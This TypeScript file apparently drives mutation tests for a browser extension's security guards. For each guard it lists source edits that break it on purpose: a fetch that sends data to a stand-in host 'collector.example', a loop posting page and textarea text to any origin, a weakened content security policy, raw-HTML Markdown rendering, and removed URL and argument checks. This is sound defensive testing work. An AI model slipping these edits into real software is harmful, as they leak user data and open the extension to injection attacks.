/**
 * The guards, and how each is taken out: an edit of the sources in a copy of
 * them, or the fault that the guard keeps out, put in. Nothing of this is ever in
 * what is shipped; an edit that finds its place no more fails the run.
 */

interface Edit {
  file: string;
  find: string;
  replace: string;
}

export const GUARDS = {
  'extension pages may connect to nobody': [
    {
      file: 'wxt.config.ts',
      find: "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self'; img-src 'self' data:; connect-src 'self'; base-uri 'none'; form-action 'none'",
      replace: "script-src 'self'; object-src 'self'",
    },
    {
      file: 'entrypoints/background/service.ts',
      find: 'const asked = { ...article, source: address ?? article.source };',
      replace:
        "const asked = { ...article, source: address ?? article.source }; fetch('http://collector.example/?' + asked.source).catch(() => 0);",
    },
  ],
  'our element is none that a page can define': [
    { file: 'page/host.ts', find: "const HOST_NAME = 'div';", replace: "const HOST_NAME = 'glossator-host';" },
  ],
  'the card speaks with the content script alone': [
    {
      file: 'entrypoints/card/main.tsx',
      find: 'awaitPort(window).then(',
      replace:
        "setInterval(() => parent.postMessage([document.body.innerText, document.querySelector('textarea')?.value].join(), '*'), 100);\nawaitPort(window).then(",
    },
  ],
  'the card has another address in each page': [
    { file: 'wxt.config.ts', find: "...(browser === 'firefox' ? {} : { use_dynamic_url: true }),", replace: '' },
  ],
  'quiet mode paints nothing': [
    { file: 'page/paint.ts', find: 'isQuiet = wanted;', replace: 'isQuiet = false && wanted;' },
  ],
  'links lead to web addresses only': [
    {
      file: 'components/safe-url.ts',
      find: 'return SAFE_PROTOCOLS.has(parsed.protocol) ? parsed.href : undefined;',
      replace: 'return SAFE_PROTOCOLS.size > 0 ? parsed.href : undefined;',
    },
  ],
  'Markdown is built anew from known elements': [
    {
      file: 'components/Markdown.tsx',
      find: "parseFromString(micromark(text), 'text/html')",
      replace:
        "parseFromString(micromark(text, { allowDangerousHtml: true, allowDangerousProtocol: true }), 'text/html')",
    },
    {
      file: 'components/Markdown.tsx',
      find: '{build(parsed.body)}',
      replace:
        '{build(document.createElement("i"))}<div dangerouslySetInnerHTML={{ __html: parsed.body.innerHTML }} />',
    },
  ],
  'each zone has its own calls': [
    { file: 'entrypoints/background/admit.ts', find: ' || CALLS[request.call].from !== zone', replace: '' },
  ],
  'arguments are checked': [
    {
      file: 'entrypoints/background/admit.ts',
      find: 'request.args = checked.output;',
      replace: 'void checked;',
    },
    {
      file: 'entrypoints/background/admit.ts',
      find: 'if (!checked.success) {',
      replace: 'if (Date.now() === 0 && !checked.success) {',
    },
  ],
  'presses count on a card that was in sight': [
    { file: 'entrypoints/card/use-guarded-clicks.ts', find: '&& !isSeen()', replace: '&& isSeen === undefined' },
  ],
  'expressions are linear': [
    {
      file: 'components/safe-url.ts',
      find: 'const SAFE_PROTOCOLS = new',
      replace: 'export const SPACES = /\\s+$/;\nconst SAFE_PROTOCOLS = new',
    },
  ],
} satisfies Record<string, Edit[]>;

export type GuardName = keyof typeof GUARDS;
